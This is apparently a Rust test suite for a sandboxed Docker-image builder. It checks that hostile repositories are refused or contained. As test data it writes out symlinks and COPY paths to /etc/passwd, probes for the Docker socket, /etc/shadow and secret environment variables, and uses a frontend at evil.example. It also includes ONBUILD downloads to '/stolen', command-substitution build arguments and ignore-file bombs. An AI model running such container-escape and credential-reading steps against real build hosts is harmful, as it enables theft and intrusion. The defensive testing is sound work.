//! What a hostile repository can try while its image is built. Each is a property with its name.

use super::lab::{Lab, SHELL, docker};
use std::time::{Duration, Instant};

#[test]
fn a_dockerfile_cannot_set_our_labels() {
    let Some(lab) = Lab::new() else { return };
    lab.busybox().write(
        "Dockerfile",
        format!("{SHELL}LABEL org.opencontainers.image.revision=evil io.docker.server.metadata=evil vendor=theirs\nRUN true\n\
                 LABEL org.opencontainers.image.revision=worse\n"),
    );
    let commit = lab.entry("weather", "");
    for builder in ["buildkit", "classic"] {
        let output = lab.run(&["build", "weather", "--builder", builder]);
        assert_eq!(output.status, 0, "{}", output.stderr);
        let image = lab.image("weather");
        assert_eq!(lab.label(&image, "org.opencontainers.image.revision"), commit, "{builder}");
        assert!(lab.label(&image, "io.docker.server.metadata").starts_with("{\"name\":\"weather\""), "{builder}");
        assert_eq!(lab.label(&image, "vendor"), "theirs", "{builder}");
    }
}

#[test]
fn links_out_of_the_context_are_refused_and_never_followed() {
    let Some(lab) = Lab::new() else { return };
    lab.write("Dockerfile", "FROM scratch\nCOPY . /\n");
    let link = |target: &str, name: &str| std::os::unix::fs::symlink(target, lab.upstream().join(name)).unwrap();
    link("/etc/passwd", "stolen");
    lab.entry("absolute", "");
    let output = lab.run(&["build", "absolute"]);
    assert_eq!(output.status, 2);
    insta::assert_snapshot!(output.stderr, @r"
    error: `absolute` was not built: the symbolic link `stolen` leads out of the build context, to `/etc/passwd`
      hint: `--keep-outside-links` sends such links as they are; the builder does not follow them
    ");
    let output = lab.run(&["build", "absolute", "--keep-outside-links"]);
    assert_eq!(output.status, 0, "{}", output.stderr);
    let name = format!("{}-look", lab.namespace);
    docker(&["create", "--name", &name, &lab.image("absolute"), "x"]);
    let tar = docker(&["export", &name]).stdout;
    docker(&["rm", "--force", &name]);
    let mut archive = tar::Archive::new(tar.as_slice());
    let found = archive.entries().unwrap().map(Result::unwrap).find(|entry| entry.path().unwrap().ends_with("stolen"));
    assert_eq!(found.unwrap().header().entry_type(), tar::EntryType::Symlink);
    std::fs::remove_file(lab.upstream().join("stolen")).unwrap();
    // It leads out only because another link leads to the top.
    std::fs::create_dir_all(lab.upstream().join("a/b")).unwrap();
    link("../..", "a/b/top");
    link("a/b/top/../x", "out");
    lab.entry("twisted", "");
    assert!(lab.run(&["build", "twisted"]).stderr.contains("`out` leads out of the build context"));
    // What is ignored may point where it wants.
    lab.write(".dockerignore", "out\n");
    lab.entry("ignored", "");
    let output = lab.run(&["build", "ignored"]);
    assert_eq!(output.status, 0, "{}", output.stderr);
}

#[test]
fn nothing_is_read_or_written_outside_of_the_context_and_the_image() {
    let Some(lab) = Lab::new() else { return };
    for (name, line) in [
        ("up", "COPY ../../../etc/passwd /x"),
        ("absolute", "COPY /etc/passwd /x"),
        ("dots", "COPY a/../../../etc/hostname /x"),
    ] {
        lab.write("Dockerfile", format!("FROM scratch\n{line}\n")).write("a/b", "");
        lab.entry(name, "");
        let output = lab.run(&["build", name]);
        assert_eq!(output.status, 3, "{name}: {}", output.stderr);
        assert!(!lab.exists(&lab.image(name)), "{name}");
    }
    // Neither the engine's socket, nor the host's files, names or processes are there; and no variable of ours is.
    let look = "RUN for path in /var/run/docker.sock /run/docker.sock /etc/shadow /root/.docker; do [ ! -e $path ] || exit 1; done; \
                [ \"$(/bin/busybox ls /proc | /bin/busybox grep -c '^[0-9]')\" -lt 10 ]; \
                ! /bin/busybox env | /bin/busybox grep -i -e token -e secret -e ssh_auth; \
                ! echo x >/proc/sys/kernel/core_pattern; ! /bin/busybox mount -t tmpfs x /bin\n";
    lab.busybox().write("Dockerfile", format!("{SHELL}{look}"));
    lab.entry("look", "");
    for builder in ["buildkit", "classic"] {
        let run = lab.command(&["build", "look", "--no-cache", "--builder", builder]);
        let output = run.env("GITHUB_TOKEN", "a-token").env("SSH_AUTH_SOCK", "/tmp/agent").run();
        assert_eq!(output.status, 0, "{builder}: {}", output.stderr);
    }
}

#[test]
fn nothing_goes_from_one_build_into_another_by_a_cache_mount() {
    let Some(lab) = Lab::new() else { return };
    let mount = format!("RUN --mount=type=cache,id={},target=/cache", lab.namespace);
    lab.busybox().write("Dockerfile", format!("{SHELL}{mount} echo evil >/cache/package\n"));
    lab.entry("first", "");
    lab.write("Dockerfile", format!("{SHELL}{mount} [ ! -e /cache/package ]\n"));
    lab.entry("second", "");
    for name in ["first", "second"] {
        let output = lab.run(&["build", name]);
        assert_eq!(output.status, 0, "{name}: {}", output.stderr);
    }
}

#[test]
fn a_build_that_asks_for_a_secret_or_a_key_agent_gets_none() {
    let Some(lab) = Lab::new() else { return };
    for (name, mount) in [("secret", "type=secret,id=token,required=true"), ("ssh", "type=ssh,required=true")] {
        lab.busybox().write("Dockerfile", format!("{SHELL}RUN --mount={mount} true\n"));
        lab.entry(name, "");
        let output = lab.command(&["build", name]).env("SSH_AUTH_SOCK", "/tmp/agent").run();
        assert_eq!(output.status, 3, "{name}: {}", output.stderr);
    }
}

#[test]
fn a_gigabyte_of_log_ends_the_build_or_is_clipped() {
    if crate::slow::is_skipped("a build that writes a gigabyte of log") {
        return;
    }
    let Some(lab) = Lab::new() else { return };
    let noise = "RUN /bin/busybox yes 0123456789012345678901234567890123456789 | /bin/busybox head -c 1000000000\n";
    lab.busybox().write("Dockerfile", format!("{SHELL}{noise}"));
    lab.entry("weather", "");
    let began = Instant::now();
    let output = lab.run(&["build", "weather", "--builder", "classic", "--max-log", "1m"]);
    assert_eq!(output.status, 3);
    assert!(
        output.stderr.contains("the build wrote more than 1048576 bytes of log and was canceled"),
        "{}",
        output.stderr
    );
    assert!(output.stderr.len() < 20_000);
    // BuildKit clips the log of a step by itself.
    let output = lab.run(&["build", "weather", "--max-log", "4m"]);
    assert!(output.stderr.len() < 20_000 && matches!(output.status, 0 | 3), "{}", output.stderr);
    assert!(began.elapsed() < Duration::from_mins(2), "{:?}", began.elapsed());
}

/// A number of seconds that no other run of the tests sleeps: equal steps of two builds are one to BuildKit.
fn forever(number: u32) -> String {
    format!("{}{number}", 1_000_000 + std::process::id())
}

/// Processes of the host whose command line has this in it.
fn processes(wanted: &str) -> usize {
    let folders = std::fs::read_dir("/proc").unwrap().flatten();
    let lines = folders.filter_map(|folder| std::fs::read(folder.path().join("cmdline")).ok());
    lines.filter(|line| String::from_utf8_lossy(line).contains(wanted)).count()
}

fn gone(wanted: &str) {
    let end = Instant::now() + Duration::from_secs(30);
    while processes(wanted) > 0 {
        assert!(Instant::now() < end, "{wanted} still runs");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_build_that_sleeps_for_ever_is_canceled_in_the_engine() {
    let Some(lab) = Lab::new() else { return };
    for (builder, seconds) in [("buildkit", forever(41)), ("classic", forever(42))] {
        lab.busybox().write("Dockerfile", format!("{SHELL}RUN /bin/busybox sleep {seconds}\n"));
        lab.entry("weather", "");
        let output = lab.run(&["build", "weather", "--builder", builder, "--timeout", "3s"]);
        assert_eq!(output.status, 3);
        assert!(output.stderr.contains("the build took longer than 3 seconds and was canceled"), "{}", output.stderr);
        gone(&format!("sleep\0{seconds}"));
    }
}

#[test]
fn ctrl_c_and_a_kill_cancel_the_build_and_leave_nothing() {
    let Some(lab) = Lab::new() else { return };
    let seconds = forever(43);
    lab.busybox().write("Dockerfile", format!("{SHELL}RUN echo it-$((1 + 1))-runs; /bin/busybox sleep {seconds}\n"));
    lab.entry("weather", "");
    let command = || lab.command(&["build", "weather", "--no-cache", "--verbose"]);
    let mut running = command().start();
    running.wait_for("it-2-runs");
    running.interrupt();
    let output = running.wait();
    assert_eq!(output.status, 3);
    assert!(output.stderr.contains("stopped: the build was canceled"), "{}", output.stderr);
    lab.check_temporary();
    // It waits for the engine: whoever starts it again at once does not meet the build that is being canceled.
    assert_eq!(processes(&format!("sleep\0{seconds}")), 0);
    let mut running = command().start();
    running.wait_for("it-2-runs");
    rustix::process::kill_process(rustix::process::Pid::from_child(running.child()), rustix::process::Signal::KILL)
        .unwrap();
    assert_eq!(running.wait_or_killed(), None);
    gone(&format!("sleep\0{seconds}"));
    // What the killed run left on disk is gone with the next one.
    lab.write("Dockerfile", "FROM scratch\nCOPY Dockerfile /\n");
    lab.entry("other", "");
    assert_eq!(lab.run(&["build", "other"]).status, 0);
    let left = docker(&["ps", "--all", "--quiet", "--filter", &format!("ancestor={}", lab.image("other"))]);
    assert!(left.stdout.is_empty());
}

#[test]
fn a_build_whose_steps_another_one_has_under_way_is_not_left_without_its_log() {
    let Some(lab) = Lab::new() else { return };
    let seconds = forever(44);
    lab.busybox().write("Dockerfile", format!("{SHELL}RUN echo it-$((1 + 1))-runs; /bin/busybox sleep {seconds}\n"));
    lab.entry("weather", "");
    let start = || lab.command(&["build", "weather", "--verbose"]).start();
    let mut first = start();
    first.wait_for("it-2-runs");
    // BuildKit joins their steps, and Engine 20 reports them to the first build alone.
    let mut second = start();
    second.wait_for("[internal] load remote build context");
    rustix::process::kill_process(rustix::process::Pid::from_child(first.child()), rustix::process::Signal::KILL)
        .unwrap();
    assert_eq!(first.wait_or_killed(), None);
    second.wait_for("it-2-runs");
    second.interrupt();
    assert_eq!(second.wait().status, 3);
    assert_eq!(processes(&format!("sleep\0{seconds}")), 0);
}

#[test]
fn other_frontends_downloads_and_the_hosts_network_are_refused_before_anything_is_sent() {
    let Some(lab) = Lab::new() else { return };
    lab.busybox().write(
        "Dockerfile",
        "# syntax=evil.example/frontend\nFROM scratch\nADD http://127.0.0.1:1/x /\nRUN --network=host x\nRUN --security=insecure x\n\
         RUN <<EOF\nEOF\nCOPY --link busybox /\n",
    );
    lab.entry("weather", "");
    let output = lab.run(&["build", "weather"]);
    assert_eq!(output.status, 2);
    insta::assert_snapshot!(output.stderr, @r"
    error: `weather` was not built: its Dockerfile is refused
      because: Dockerfile:1: `evil.example/frontend` would read this file in place of Docker's own frontend; `--allow-syntax` allows that
      because: Dockerfile:3: `ADD http://127.0.0.1:1/x` is downloaded in the network of the engine's host, not in that of the build; `--allow-remote-add` allows that
      because: Dockerfile:4: `RUN --network=host`: a build never gets the host's network
      because: Dockerfile:5: `RUN --security`: a build never gets more privileges
    ");
}

#[test]
fn onbuild_waits_for_whoever_builds_upon_the_image() {
    let Some(lab) = Lab::new() else { return };
    lab.busybox().write("Dockerfile", format!("{SHELL}ONBUILD RUN exit 1\n"));
    lab.entry("weather", "");
    let output = lab.run(&["build", "weather"]);
    assert_eq!(output.status, 0, "{}", output.stderr);
    assert_eq!(lab.inspect(&lab.image("weather"), "{{json .Config.OnBuild}}"), "[\"RUN exit 1\"]");
}

#[test]
fn a_build_argument_that_looks_like_a_flag_is_a_value_or_refused() {
    let Some(lab) = Lab::new() else { return };
    let check = "ARG A\nARG B\nRUN [ \"$A\" = '--privileged --network=host' ] && [ \"$B\" = '$(x)`x`\"=' ]\n";
    lab.busybox().write("Dockerfile", format!("{SHELL}{check}"));
    lab.entry("weather", "");
    for builder in ["buildkit", "classic"] {
        let output = lab.run(&[
            "build",
            "weather",
            "--builder",
            builder,
            "--build-arg",
            "A=--privileged --network=host",
            "--build-arg",
            "B=$(x)`x`\"=",
        ]);
        assert_eq!(output.status, 0, "{}", output.stderr);
    }
    for wrong in ["--network=host", "=x", "A", "1=x", "A-B=x", "A B=x"] {
        assert_eq!(lab.run(&["build", "weather", &format!("--build-arg={wrong}")]).status, 2, "{wrong}");
    }
    let output = lab.run(&["build", "weather", "--build-arg", "BUILDKIT_SYNTAX=evil/x"]);
    assert_eq!((output.status, output.stderr.contains("needs `--allow-syntax`")), (2, true), "{}", output.stderr);
}

#[test]
fn a_dockerignore_bomb_and_a_context_bomb_are_refused() {
    let Some(lab) = Lab::new() else { return };
    lab.write("Dockerfile", "FROM scratch\nCOPY . /\n").write("large", vec![0; 3 << 20]);
    for number in 0..2_000 {
        lab.write(&format!("d/{}{number}", "a".repeat(200)), "");
    }
    lab.write(".dockerignore", format!("{}\n", "**/*a*a*a*a*a*b".repeat(3)).repeat(1_000));
    lab.entry("work", "");
    lab.write(".dockerignore", "x\n".repeat(1_001));
    lab.entry("many", "");
    lab.write(".dockerignore", "x\n".repeat(200_000));
    lab.entry("long", "");
    lab.write(".dockerignore", "\n");
    lab.entry("large", "");
    let began = Instant::now();
    let output = lab.run(&["build", "work", "many", "long", "large", "--max-context", "2m"]);
    assert!(began.elapsed() < Duration::from_mins(2), "{:?}", began.elapsed());
    assert_eq!(output.status, 2);
    insta::assert_snapshot!(output.stderr, @r"
    error: `work` was not built: `.dockerignore`: its patterns are too much work for the number of files here
    error: `many` was not built: `.dockerignore`: line 1001: more than 1000 patterns
    error: `long` was not built: `.dockerignore`: `.dockerignore` has 400000 bytes, which is more than 262144
    error: `large` was not built: the build context has more than 2097152 bytes
      hint: `--max-context` sets the limit
    ");
}

#[test]
fn what_the_pin_does_not_have_is_not_built() {
    let Some(lab) = Lab::new() else { return };
    lab.write("docker/Dockerfile", "FROM scratch\n");
    let commit = lab.entry("no-dockerfile", "");
    lab.pin("no-directory", &commit, "directory: nowhere");
    lab.pin("no-commit", &"1".repeat(40), "");
    lab.pin("a-tree", &lab.git(["rev-parse", "HEAD^{tree}"]), "");
    lab.pin("no-target", &commit, "dockerfile: docker/Dockerfile\nbuildTarget: final");
    let output = lab.run(&["build", "no-dockerfile", "no-directory", "no-commit", "a-tree", "no-target"]);
    assert_eq!((output.status, output.stdout.as_str()), (3, ""));
    insta::assert_snapshot!(lab.normal(&output.stderr).replace(&commit, "[COMMIT]"), @r"
    error: `no-dockerfile` was not built: the commit [COMMIT] has no Dockerfile `Dockerfile` in the repository
      hint: set `source.dockerfile`; there is `docker/Dockerfile`
    error: `no-directory` was not built: the commit [COMMIT] has no directory `nowhere`
    error: the code of `no-commit` cannot be fetched
      because: [UPSTREAM] has no commit 1111111111111111111111111111111111111111
      hint: was it removed by a force-push, or is it on a branch of another repository?
    error: the code of `a-tree` cannot be fetched
      because: 528e5864fd77d655a5331b5f5851258d57f84c85 is not a commit
      hint: an annotated tag has an id of its own: give the id of its commit
    error: `no-target` was not built: its Dockerfile is refused
      because: docker/Dockerfile: there is no stage `final`, which `source.buildTarget` names
    ");
}

#[test]
fn a_dockerfile_that_is_not_a_file_is_called_what_it_is() {
    let Some(lab) = Lab::new() else { return };
    lab.write("folder/Dockerfile/x", "").write("other/Dockerfile", "FROM scratch\n");
    std::os::unix::fs::symlink("../other/Dockerfile", lab.upstream().join("folder/Away")).unwrap();
    std::os::unix::fs::symlink("nowhere", lab.upstream().join("folder/Dangling")).unwrap();
    let commit = lab.entry("a-folder", "directory: folder");
    lab.pin("a-link", &commit, "directory: folder\ndockerfile: Away");
    lab.pin("dangling", &commit, "directory: folder\ndockerfile: Dangling");
    let text = lab.registry.read("servers/a-link/server.yaml");
    let project = lab.upstream().display().to_string();
    lab.registry
        .write("servers/no-repository/server.yaml", text.replace("a-link", "no-repository").replace(&project, "/etc"));
    let output = lab.run(&["build", "a-folder", "a-link", "dangling", "no-repository"]);
    assert_eq!((output.status, output.stdout.as_str()), (3, ""));
    insta::assert_snapshot!(lab.normal(&output.stderr).replace(&commit, "[COMMIT]"), @r"
    error: `a-folder` was not built: at the commit [COMMIT], `Dockerfile` in folder is a folder
    error: `a-link` was not built: at the commit [COMMIT], `Away` in folder is a symbolic link to `../other/Dockerfile`, which is not a file of the context
    error: `dangling` was not built: at the commit [COMMIT], `Dangling` in folder is a symbolic link to `nowhere`, which is not a file of the context
    error: the code of `no-repository` cannot be fetched
      because: `/etc` is not in a Git repository
    ");
}

#[test]
fn submodules_are_refused_or_empty() {
    let Some(lab) = Lab::new() else { return };
    lab.write("Dockerfile", "FROM scratch\nCOPY . /\n");
    lab.git(["update-index", "--add", "--cacheinfo", &format!("160000,{},vendor/lib", "1".repeat(40))]);
    lab.git(["add", "Dockerfile"]);
    lab.git(["commit", "--quiet", "--message", "a submodule"]);
    lab.pin("weather", &lab.git(["rev-parse", "HEAD"]), "");
    let output = lab.run(&["build", "weather"]);
    assert_eq!(output.status, 2);
    insta::assert_snapshot!(output.stderr, @r"
    error: `weather` was not built: the build context has a submodule at `vendor/lib`
      hint: a submodule is another repository, which nobody has reviewed: `--empty-submodules` builds without it
    ");
    assert_eq!(lab.run(&["build", "weather", "--empty-submodules"]).status, 0);
}

#[test]
fn triggers_of_a_base_image_are_refused_before_the_build() {
    let Some(lab) = Lab::new() else { return };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let base = lab.image("base");
    lab.write(
        "Dockerfile",
        format!("FROM scratch\nCOPY Dockerfile /x\nONBUILD ADD http://127.0.0.1:{port}/secret /stolen\n"),
    );
    let folder = lab.upstream();
    let made = docker(&["build", "--quiet", "--tag", &base, folder.to_str().unwrap()]);
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    for (entry, dockerfile) in [
        ("weather", format!("FROM {base}\nCOPY Dockerfile /y\n")),
        ("named", format!("ARG BASE={base}\nFROM ${{BASE}} AS one\nFROM scratch\nCOPY --from=one /x /y\n")),
    ] {
        lab.write("Dockerfile", dockerfile);
        lab.entry(entry, "");
        for builder in ["buildkit", "classic"] {
            let output = lab.run(&["build", entry, "--network", "none", "--builder", builder]);
            assert_eq!(output.status, 2, "{entry} {builder}: {}", output.stderr);
            assert!(listener.accept().is_err(), "{entry} {builder}: the host's network was reached");
            if entry == "weather" {
                insta::allow_duplicates! {
                    insta::assert_snapshot!(lab.normal(&output.stderr).replace(&port.to_string(), "[PORT]"), @r"
                    error: `weather` was not built: its base images are refused
                      because: Dockerfile:1: the base image [NAMESPACE]/base:latest has `ONBUILD ADD http://127.0.0.1:[PORT]/secret /stolen`, which the build would do
                      hint: `--allow-onbuild` builds upon them, and does whatever they say
                    ");
                }
            }
        }
    }
    // A name that is not known before the build.
    lab.write("Dockerfile", format!("ARG BASE={base}\nFROM ${{BASE#x}}\nCOPY Dockerfile /y\n"));
    lab.entry("unclear", "");
    let output = lab.run(&["build", "unclear"]);
    assert_eq!(output.status, 2, "{}", output.stderr);
    insta::assert_snapshot!(lab.normal(&output.stderr), @r"
        error: `unclear` was not built: its base images are refused
          because: Dockerfile:2: which image `${BASE#x}` is cannot be said before the build: what `${BASE…}` makes of `BASE` is not worked out
          hint: write the image without variables, or give them values with `--build-arg NAME=VALUE`
          hint: `--allow-onbuild` builds upon them, and does whatever they say
        ");
    // Of what builders make of variables, the usual is worked out, with the arguments of the build.
    lab.write("Dockerfile", "ARG NAME\nARG TAG=latest\nFROM ${NAME:-scratch}${TAG:+:$TAG}\nCOPY Dockerfile /y\n");
    lab.entry("given", "");
    let given = lab.run(&["build", "given", "--build-arg", &format!("NAME={base}")]);
    assert!(given.status == 2 && given.stderr.contains("has `ONBUILD ADD http://127.0.0.1"), "{}", given.stderr);
    // What is asked for is done.
    lab.write("Dockerfile", "FROM scratch\nCOPY Dockerfile /x\nONBUILD COPY Dockerfile /z\n");
    assert!(docker(&["build", "--quiet", "--tag", &base, folder.to_str().unwrap()]).status.success());
    lab.write("Dockerfile", format!("FROM {base}\nCOPY Dockerfile /y\n"));
    lab.entry("allowed", "");
    assert_eq!(lab.run(&["build", "allowed"]).status, 2);
    let output = lab.run(&["build", "allowed", "--allow-onbuild"]);
    assert_eq!(output.status, 0, "{}", output.stderr);
}

#[test]
fn places_of_results_that_would_hang_or_be_lost_are_refused_before_the_build() {
    let Some(lab) = Lab::new() else { return };
    lab.write("Dockerfile", "FROM scratch\nCOPY Dockerfile /x\n");
    lab.entry("weather", "");
    let pipe = lab.registry.root().join("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    lab.registry.write("broken.json", "{\"weather\": ");
    for arguments in
        [&["--record", "pipe"][..], &["--log", "pipe"], &["--output", "pipe"], &["--push", "--digests", "pipe"]]
    {
        let output = lab.run(&[&["build", "weather"], arguments].concat());
        assert_eq!(output.status, 2, "{arguments:?}: {}", output.stderr);
        let said = format!(
            "error: `{} pipe` cannot be written\n  because: it is not a regular file\n",
            arguments[arguments.len() - 2]
        );
        assert!(output.stderr.starts_with(&said), "{}", output.stderr);
    }
    let output = lab.run(&["build", "weather", "--push", "--digests", "broken.json"]);
    assert!(output.status == 2 && output.stderr.contains("is not a JSON object of images"), "{}", output.stderr);
    assert!(!lab.exists(&lab.image("weather")), "nothing was built");
    assert_eq!(lab.run(&["build", "weather", "--log", "/dev/null"]).status, 0);
}
